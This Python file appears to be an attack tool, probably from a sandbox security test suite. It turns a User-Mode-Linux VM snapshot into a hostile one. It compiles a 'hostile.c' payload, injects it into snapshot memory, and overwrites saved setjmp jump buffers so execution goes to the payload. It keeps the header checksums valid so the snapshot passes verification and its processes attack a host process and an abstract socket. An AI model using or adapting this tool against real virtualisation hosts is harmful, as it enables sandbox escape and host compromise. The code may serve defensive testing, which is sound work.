"""Turns a snapshot into one that runs the code of hostile.c in place of its kernel.

The header and run table of a snapshot (peer/vm/uml/snapshot_file.h) are kept true, so that it
passes every check: whoever signs a snapshot may do just this."""

import pathlib
import struct
import subprocess

PAGE = 4096
STACK_PAGES = 4
# Far more than a small machine may use, and nothing that a host misses where no limit holds.
MOST_MEMORY_MIB = 512
CHECKSUM_AT = 4088
SOURCE = pathlib.Path(__file__).resolve().parent / "hostile.c"


class MemoryFile:
    """A snapshot's memory file, to be changed in place."""

    def __init__(self, path):
        self.path = path
        self.content = bytearray(path.read_bytes())
        (self.file_bytes, self.contents, runs, _) = struct.unpack_from("<4Q", self.content, 16)
        (self.data_start, _, _, self.data_end, self.heap_end, self.memory_start,
         self.memory_end) = struct.unpack_from("<7Q", self.content, 80)
        self.runs, page = [], 0
        for index in range(runs):
            address, pages = struct.unpack_from("<2Q", self.content, PAGE + 16 * index)
            self.runs.append((address, pages, self.contents + page * PAGE))
            page += pages

    def longest_run_of_memory(self):
        return max((run for run in self.runs if run[0] >= self.heap_end), key=lambda run: run[1])

    def jump_buffers(self):
        """Where in the file the kernel's variables hold what setjmp() noted: registers with a
        stack pointer into memory, and the address of code to go on with."""
        for address, pages, offset in self.runs:
            if address >= self.data_end:
                continue
            words = struct.unpack_from(f"<{pages * PAGE // 8}Q", self.content, offset)
            for index in range(len(words) - 7):
                stack, code = words[index + 1], words[index + 7]
                if (self.heap_end <= stack < self.memory_end and stack % 8 == 0
                        and self.memory_start < code < self.data_start):
                    yield offset + index * 8

    def write(self):
        self.path.write_bytes(self.content)

    def checksum_holds(self):
        """That of the header and the run table; the pages have none."""
        value = 0xcbf29ce484222325
        for begin, end in ((0, CHECKSUM_AT), (PAGE, PAGE + 16 * len(self.runs))):
            for (word,) in struct.iter_unpack("<Q", self.content[begin:end]):
                value = (value ^ word) * 0x100000001b3 % 2**64
                value ^= value >> 29
        return value == struct.unpack_from("<Q", self.content, CHECKSUM_AT)[0]


def compile_payload(folder, address, host_pid, abstract_name):
    """hostile.c as bytes that run at `address` and nowhere else, and where they begin."""
    subprocess.run(
        ["gcc", "-std=gnu11", "-Wall", "-Wextra", "-Werror", "-O1", "-ffreestanding", "-nostdlib",
         "-static", "-no-pie", "-fno-pic", "-fno-stack-protector", "-fcf-protection=none",
         "-fno-asynchronous-unwind-tables", "-mcmodel=large", "-mgeneral-regs-only", "-Wl,--no-warn-rwx-segments", f"-DHOST_PID={host_pid}",
         f'-DABSTRACT_NAME="{abstract_name}"', f"-DMOST_MEMORY_MIB={MOST_MEMORY_MIB}", "-Wl,--build-id=none", "-Wl,-N", "-Wl,-e,start",
         f"-Wl,-Ttext={address:#x}", SOURCE, "-o", folder / "hostile.elf"], check=True)
    subprocess.run(["objcopy", "-O", "binary", folder / "hostile.elf", folder / "hostile.bin"],
                   check=True)
    (entry,) = struct.unpack_from("<Q", (folder / "hostile.elf").read_bytes(), 24)
    return (folder / "hostile.bin").read_bytes(), entry


def make_hostile(snapshot_file, folder, host_pid, abstract_name):
    """Patches `snapshot_file`. Its processes will attack `host_pid` and the abstract socket."""
    memory = MemoryFile(snapshot_file)
    address, pages, offset = memory.longest_run_of_memory()
    payload, entry = compile_payload(folder, address, host_pid, abstract_name)
    assert len(payload) + STACK_PAGES * PAGE < pages * PAGE, "no run of pages is long enough"
    memory.content[offset:offset + len(payload)] = payload
    stack = address + pages * PAGE - 64 - 8  # as after a call
    patched = 0
    for place in list(memory.jump_buffers()):
        struct.pack_into("<Q", memory.content, place + 8, stack)
        struct.pack_into("<Q", memory.content, place + 56, entry)
        patched += 1
    assert patched > 0, "no jump buffer found"
    assert memory.checksum_holds()
    memory.write()
